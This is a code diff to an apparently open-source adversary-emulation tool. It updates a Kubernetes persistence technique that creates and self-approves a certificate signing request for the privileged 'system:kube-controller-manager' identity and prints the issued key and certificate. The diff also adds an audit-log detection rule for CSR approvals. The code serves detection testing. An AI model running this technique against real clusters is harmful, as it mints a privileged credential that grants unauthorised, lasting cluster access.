@@ -13,6 +13,7 @@ import (
 	"github.com/datadog/stratus-red-team/v2/pkg/stratus/log"
 	"time"
 
+	"github.com/datadog/stratus-red-team/v2/internal/utils"
 	"github.com/datadog/stratus-red-team/v2/pkg/stratus"
 	"github.com/datadog/stratus-red-team/v2/pkg/stratus/mitreattack"
 	certificates "k8s.io/api/certificates/v1"
@@ -24,11 +25,18 @@ import (
 func init() {
 
 	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
-		ID:                 "k8s.persistence.create-client-certificate",
-		FriendlyName:       "Create Client Certificate Credential",
-		Platform:           stratus.Kubernetes,
-		IsIdempotent:       true,
-		MitreAttackTactics: []mitreattack.Tactic{mitreattack.Persistence},
+		ID:                    "k8s.persistence.create-client-certificate",
+		FriendlyName:          "Create Client Certificate Credential",
+		Platform:              stratus.Kubernetes,
+		IsIdempotent:          true,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Persistence},
+		MitreAttackTechniques: []string{"T1098.001"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"verb": {"update"}, "objectRef.resource": {"certificatesigningrequests"}, "objectRef.subresource": {"approval"}},
+			},
+			FalsePositives: []string{"Approval of kubelet certificates"},
+		},
 		Description: `
 Creates a client certificate for a privileged user. This client certificate can be used to authenticate to the cluster.
 
@@ -51,14 +59,14 @@ which includes privileged permissions, such as access all secrets of the cluster
 Using Kubernetes API server audit logs. In particular, look for creation and approval of CSR objects, which do
 not relate to standard cluster operation (e.g. Kubelet certificate issuance).
 `,
-		Detonate: detonate,
+		DetonateWithContext: detonate,
 	})
 }
 
 const csrName = "stratus-red-team-csr"
 const commonName = "system:kube-controller-manager"
 
-func detonate(_ map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, _ map[string]string, providers stratus.CloudProviders) error {
 	client := providers.K8s().GetClient()
 
 	key, err := rsa.GenerateKey(rand.Reader, 1024)
@@ -97,7 +105,7 @@ func detonate(_ map[string]string, providers stratus.CloudProviders) error {
 	}
 
 	log.Println("Issuing certificate signing request")
-	_, err = client.CertificatesV1().CertificateSigningRequests().Create(context.Background(), csr, v1.CreateOptions{})
+	_, err = client.CertificatesV1().CertificateSigningRequests().Create(ctx, csr, v1.CreateOptions{})
 	if err != nil {
 		return errors.New("Unable to create certificate signing request: " + err.Error())
 
@@ -110,12 +118,14 @@ func detonate(_ map[string]string, providers stratus.CloudProviders) error {
 		Message:        "This CSR was approved",
 		LastUpdateTime: v1.Now(),
 	})
-	csr, err = client.CertificatesV1().CertificateSigningRequests().UpdateApproval(context.Background(), csrName, csr, v1.UpdateOptions{})
+	csr, err = client.CertificatesV1().CertificateSigningRequests().UpdateApproval(ctx, csrName, csr, v1.UpdateOptions{})
 	if err != nil {
 		return errors.New("Unable to update Certificate approval: " + err.Error())
 	}
-	time.Sleep(2 * time.Second)
-	csr, err = client.CertificatesV1().CertificateSigningRequests().Get(context.Background(), csr.GetName(), v1.GetOptions{})
+	if err := utils.SleepWithContext(ctx, 2*time.Second); err != nil {
+		return err
+	}
+	csr, err = client.CertificatesV1().CertificateSigningRequests().Get(ctx, csr.GetName(), v1.GetOptions{})
 	if err != nil {
 		return errors.New("Unable to retrieve client certificate " + err.Error())
 	}
@@ -123,7 +133,7 @@ func detonate(_ map[string]string, providers stratus.CloudProviders) error {
 	//This section is needed to handle cases where the CSR was created but signing didn't occur
 	//For example EKS. We clean up the CSR first then exit.
 	if pb == nil {
-		_ = client.CertificatesV1().CertificateSigningRequests().Delete(context.Background(), csr.GetName(), v1.DeleteOptions{})
+		_ = client.CertificatesV1().CertificateSigningRequests().Delete(ctx, csr.GetName(), v1.DeleteOptions{})
 		return errors.New("unable to retrieve client certificate - signing did not happen. " +
 			"Note that this attack technique cannot be successful for EKS, see https://github.com/aws/containers-roadmap/issues/1604")
 	}
@@ -137,7 +147,7 @@ func detonate(_ map[string]string, providers stratus.CloudProviders) error {
 	fmt.Println(dumpPrivateKey(key))
 	fmt.Println(dumpCertificate(issuedCert))
 
-	err = client.CertificatesV1().CertificateSigningRequests().Delete(context.Background(), csr.GetName(), v1.DeleteOptions{})
+	err = client.CertificatesV1().CertificateSigningRequests().Delete(ctx, csr.GetName(), v1.DeleteOptions{})
 	if err != nil {
 		return errors.New("Unable to delete CSR: " + err.Error())
 	}